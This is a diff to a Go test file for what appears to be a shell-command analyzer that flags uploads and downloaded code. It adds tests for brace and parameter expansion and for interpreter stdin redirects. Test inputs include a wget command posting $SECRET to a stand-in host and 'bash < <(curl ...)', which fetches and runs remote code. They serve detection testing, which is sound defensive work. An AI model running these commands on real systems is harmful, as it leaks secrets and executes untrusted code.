@@ -38,6 +38,8 @@ func TestNormalization(t *testing.T) {
 		{`v=abc; echo ${v/b/X} ${v^^}`, "echo", []string{"aXc", "ABC"}},
 		{`echo a{b,c}d`, "echo", []string{"abd", "acd"}},
 		{`echo {1..3}`, "echo", []string{"1", "2", "3"}},
+		{`echo {c..a} {3..1}`, "echo", []string{"c", "b", "a", "3", "2", "1"}},
+		{`f=a.b.c; echo ${f##*.} ${f%.*} ${f#*.}`, "echo", []string{"c", "a.b", "b.c"}},
 		{`x=$((2+3)); echo $x`, "echo", []string{"5"}},
 		{`echo $(( (7-1)*2/3 )) $((-4))`, "echo", []string{"4", "-4"}},
 		{`s=abcdef; echo ${s:1:3} ${s: -2} ${s:2}`, "echo", []string{"bcd", "ef", "cdef"}},
@@ -1187,5 +1189,20 @@ func TestMoreCarriers(t *testing.T) {
 	f = run(t, `wget -O- --post-data="k=$SECRET" http://x.io/u`)
 	if n := findNet(f, "wget"); n == nil || !n.Upload || len(f.Outputs) != 1 || f.Outputs[0].Vars[0] != "SECRET" {
 		t.Errorf("wget post-data: %s", dump(f))
+	}
+}
+
+func TestInterpreterStdinRedirects(t *testing.T) {
+	f := run(t, `bash < <(curl -s http://x.io/i)`)
+	if d := findDyn(f, "pipe_interpreter"); d == nil || !d.Downloaded {
+		t.Errorf("bash < <(curl): %s", dump(f))
+	}
+	f = run(t, `python3 < setup.py`)
+	if fa := findFile(f, "exec", "setup.py"); fa == nil {
+		t.Errorf("python3 < file: %s", dump(f))
+	}
+	f = run(t, `sh -s < install.sh`)
+	if findFile(f, "exec", "install.sh") == nil {
+		t.Errorf("sh -s < file: %s", dump(f))
 	}
 }
